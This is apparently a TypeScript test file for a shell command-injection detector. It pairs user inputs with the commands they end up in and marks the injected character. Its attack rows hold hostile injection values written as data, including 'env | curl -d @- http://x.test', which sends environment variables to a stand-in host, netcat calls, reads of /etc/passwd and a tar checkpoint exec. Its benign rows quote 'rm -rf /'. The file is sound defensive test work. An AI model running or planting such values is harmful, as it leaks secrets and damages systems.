import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createIndex } from './input-index.ts';
import { shellEvidence } from './shell.ts';
import { type EvidenceRow, manual, testEvidence } from './testing/rows.ts';

const rows: readonly EvidenceRow[] = [
  // Attacks
  {
    name: 'the classic',
    input: 'foobar@some.site; env | curl -d @- http://x.test',
    sink: 'tar czf r.tgz foobar@some.site; env | curl -d @- http://x.test',
    changes: ';',
  },
  {
    name: 'a part that the program cut out',
    input: 'mail foobar@some.site; env | curl -d @- http://x.test',
    sink: 'pack foobar@some.site; env | curl -d @- http://x.test > out',
    changes: ';',
  },
  { name: 'a part from the middle', input: '{"to":"a@b.test; id | nc x 1","n":1}', sink: 'pack a@b.test; id | nc x 1', changes: ';' },
  {
    name: 'a part after much padding',
    input: `${'x '.repeat(20_000)}a@b.test; id | nc x 1`,
    sink: 'pack a@b.test; id | nc x 1',
    changes: ';',
  },
  { name: 'out of single quotes', input: "x'; id; '", sink: "echo 'x'; id; ''", changes: "'" },
  { name: 'out of double quotes', input: 'x"; id; "', sink: 'echo "x"; id; ""', changes: '"' },
  { name: 'a name with an apostrophe in single quotes', input: "O'Brien", sink: "echo 'O'Brien'", changes: "'" },
  { name: 'substitution in double quotes', input: '$(id)', sink: 'echo "$(id)"', changes: '$(' },
  { name: 'backquotes in double quotes', input: 'x`id`', sink: 'echo "x`id`"', changes: '`' },
  { name: 'a pipe', input: 'a|sh', sink: 'cat a|sh', changes: '|' },
  { name: 'a short value', input: ';id', sink: 'ping ;id', changes: ';' },
  { name: 'two operators', input: 'x && id', sink: 'ping x && id', changes: '&&' },
  { name: 'the background', input: 'x & id', sink: 'ping x & id', changes: '&' },
  { name: 'a newline', input: 'x\nid', sink: 'ping x\nid', changes: '\n' },
  { name: 'a redirection', input: 'x > /tmp/f', sink: 'echo x > /tmp/f', changes: '>' },
  { name: 'a process substitution', input: '<(id)', sink: 'cat <(id)', changes: '<(' },
  { name: 'a variable', input: 'a${HOME}', sink: 'echo "a${HOME}"', changes: '${HOME}' },
  { name: 'the field separator', input: ';cat$IFS/etc/passwd', sink: 'ls ;cat$IFS/etc/passwd', changes: ';' },
  {
    name: 'an option among words',
    input: 'x --checkpoint-action=exec=sh',
    sink: 'tar cf a.tar x --checkpoint-action=exec=sh',
    changes: '--checkpoint-action=exec=sh',
  },
  { name: 'an option in quotes', input: '--output=/etc/cron', sink: 'curl "--output=/etc/cron"', changes: '--output=/etc/cron' },
  { name: 'a comment that hides the rest', input: 'x #', sink: 'rm x # --dry-run', changes: '#' },
  { name: 'the whole command', input: 'wget http://x.test/a', sink: 'wget http://x.test/a', changes: 'wget' },
  { name: 'other letter case', input: 'A@B.TEST; CAT /etc/passwd', sink: 'pack a@b.test; cat /etc/passwd', changes: ';' },
  { name: 'blanks trimmed', input: '  a; id ', sink: 'pack a; id', changes: ';' },
  { name: 'a backslash before the program’s quote', input: ['abc\\', '; id #'], sink: 'grep "abc\\" "; id #"', changes: '\\' },
  { name: 'an early end of a here-document', input: 'x\nEOF\nid', sink: 'cat <<EOF\nx\nEOF\nid\nEOF\n', changes: '\n' },
  { name: 'inside JSON', input: 'x\'; id; echo "', sink: `echo '${JSON.stringify({ v: 'x\'; id; echo "' })}'`, changes: "'" },
  { name: 'twice in the command', input: "a'; id '", sink: "cp 'a'; id '' 'a'; id '.bak'", changes: "'" },
  { name: 'a decoy beside it', input: ["a'; id '", "'", "echo '"], sink: "echo 'a'; id ''", changes: "'" },
  { name: 'a decoy around it', input: ["x'; id '", "echo 'x'; id '"], sink: "echo 'x'; id ''", changes: "'" },
  {
    name: 'a decoy around what the program cut off',
    input: ["abc'; id #--------", "zcp 'abc'; id #'z"],
    sink: "cp 'abc'; id #'",
    changes: "'",
  },
  {
    name: 'other values with quotes before it',
    input: [...'abcdefghijklmnopqrst'].map((c) => `${c}"${c}`).concat(['abc\\', '; id #']),
    sink: `a ${[...'abcdefghijklmnopqrst'].map((c) => `'${c}"${c}'`).join(' ')} "abc\\" "; id #"`,
    changes: '\\',
  },
  { name: 'letters of another alphabet between', input: 'é;id #é', sink: 'ls Ã©;id #Ã©', changes: ';' },
  { name: 'full-width letters in normal form', input: 'x；ｉｄ', sink: 'ls x;id', changes: ';' },
  {
    name: 'a long document written as JSON',
    input: `'\t;id;\t'${'x y\n'.repeat(10_000)}`,
    sink: `echo '${JSON.stringify(`'\t;id;\t'${'x y\n'.repeat(10_000)}`)}'`,
    changes: "'",
  },
  // Benign
  { name: 'letters of another alphabet in quotes', input: 'é;id #é', sink: "ls 'Ã©;id #Ã©'", changes: '' },
  { name: 'full-width letters as they are', input: 'x；ｉｄ', sink: 'ls x；ｉｄ', changes: '' },
  {
    name: 'a long document in JSON, quoted',
    input: 'x y;\n'.repeat(10_000),
    sink: `echo '${JSON.stringify('x y;\n'.repeat(10_000))}'`,
    changes: '',
  },
  { name: 'a file name', input: 'report.pdf', sink: 'cat report.pdf', changes: '' },
  { name: 'a path', input: 'reports/2024/a.pdf', sink: 'cat reports/2024/a.pdf > out', changes: '' },
  { name: 'a mail address', input: 'ann@some.site', sink: 'pack ann@some.site | gzip > x', changes: '' },
  { name: 'two words without quotes', input: 'John Smith', sink: 'echo John Smith', changes: '' },
  { name: 'two words in quotes', input: 'John Smith', sink: "echo 'John Smith' | wc", changes: '' },
  { name: 'an apostrophe in double quotes', input: "O'Brien", sink: 'echo "O\'Brien"', changes: '' },
  { name: 'an apostrophe escaped', input: "it's; rm -rf /", sink: "echo 'it'\\''s; rm -rf /'", changes: '' },
  { name: 'an attack in quotes', input: 'x; rm -rf / $(id)', sink: "echo 'x; rm -rf / $(id)' >> log", changes: '' },
  { name: 'an attack that starts with a quote, escaped', input: "'; rm -rf / '", sink: "echo ''\\''; rm -rf / '\\'''", changes: '' },
  {
    name: 'apostrophes escaped',
    input: "I really can't believe it isn't; so",
    sink: "echo 'I really can'\\''t believe it isn'\\''t; so' | x",
    changes: '',
  },
  {
    name: 'apostrophes escaped by double quotes',
    input: "I really can't believe it isn't; so",
    sink: `echo 'I really can'"'"'t believe it isn'"'"'t; so'`,
    changes: '',
  },
  { name: 'a price in double quotes', input: 'costs $100', sink: 'echo "costs $100"', changes: '' },
  { name: 'operators in double quotes', input: 'R&D; Tom & Jerry <3 | x', sink: 'echo "R&D; Tom & Jerry <3 | x"', changes: '' },
  { name: 'HTML in single quotes', input: '<b>a & b</b>', sink: "echo '<b>a & b</b>' | mail x", changes: '' },
  { name: 'a line end at the end', input: 'report.pdf\n', sink: 'cat report.pdf\n', changes: '' },
  { name: 'several lines in quotes', input: 'a\nb\nc', sink: "printf '%s' 'a\nb\nc'", changes: '' },
  { name: 'a value in quotes of its own', input: '"John Smith"', sink: 'echo "John Smith"', changes: '' },
  { name: 'a negative number', input: '-5', sink: 'seq -5 1', changes: '' },
  { name: 'a dash in prose', input: 'wait - what', sink: 'echo wait - what', changes: '' },
  { name: 'a heading of dashes', input: '--- forwarded message ---', sink: 'echo "--- forwarded message ---"', changes: '' },
  { name: 'an option name after --', input: '--version', sink: 'rm -- --version', changes: '' },
  { name: 'a separator alone', input: '|', sink: 'ps | wc', changes: '' },
  { name: 'two operators alone', input: ' && ', sink: 'a && b', changes: '' },
  { name: 'a command’s name', input: 'convert', sink: 'convert a.png b.jpg; rm a.png', changes: '' },
  {
    name: 'a manual that quotes the command',
    input: manual,
    sink: 'tar czf /tmp/out.tgz /data | tee /tmp/log > /dev/null 2>&1',
    changes: '',
  },
  { name: 'a manual that quotes its end', input: manual, sink: 'gzip x | tee /tmp/log > /dev/null 2>&1', changes: '' },
  { name: 'a manual that quotes a pipe', input: manual, sink: 'ls | grep -v grep | sort -u', changes: '' },
  { name: 'a long text in quotes', input: manual, sink: `echo '${manual.replaceAll("'", "'\\''")}'`, changes: '' },
  { name: 'words in an escaped heredoc', input: 'a; b | $(c)', sink: "cat <<'E'\na; b | $(c)\nE\n", changes: '' },
  { name: 'a hash inside a word', input: 'C# code', sink: 'echo C# code > x', changes: '' },
  { name: 'a URL', input: 'https://x.test/a?b=1', sink: 'curl https://x.test/a?b=1', changes: '' },
];
testEvidence('shell evidence', rows, shellEvidence);

// Items of one list, which the program joins.
const lists: readonly EvidenceRow[] = [
  { name: 'a separator as an item', input: ['x', ';', 'id'], sink: 'printf %s x ; id', changes: ';' },
  { name: 'a separator among many', input: ['alpha', 'beta', '|', 'sh', 'gamma'], sink: 'printf %s alpha beta | sh gamma', changes: '|' },
  { name: 'a line end as an item', input: ['x', '\n', 'id'], sink: 'printf %s x \n id', changes: '\n' },
  { name: 'brackets and a word', input: ['$(', 'id', ')'], sink: 'echo "$(id)"', changes: '$(' },
  { name: 'a separator joined by commas', input: ['x', '&', 'id'], sink: 'printf %s x,&,id', changes: '&' },
  { name: 'words', input: ['x', 'y', 'id'], sink: 'printf %s x y id', changes: '' },
  { name: 'separators in quotes', input: ['x', ';', 'id'], sink: "printf %s 'x ; id'", changes: '' },
  { name: 'quoted one by one', input: ['x', ';', 'id'], sink: "printf %s 'x' ';' 'id'", changes: '' },
  { name: 'a separator that the program writes as well', input: ['a', '|', 'b'], sink: 'cat x | sort', changes: '' },
  { name: 'dashes', input: ['a', '-', 'b'], sink: 'echo a - b', changes: '' },
];
for (const row of lists)
  test(`shell evidence: ${row.name}, of a list`, () => {
    const values = (row.input as readonly string[]).map((text, i) => ({ text, path: `$.items[${i}]`, encodings: [] }));
    const change = shellEvidence(row.sink, createIndex([{ label: 'event', values }]));
    assert.equal(change ? row.sink.slice(...change.span) : '', row.changes, change?.reason);
  });
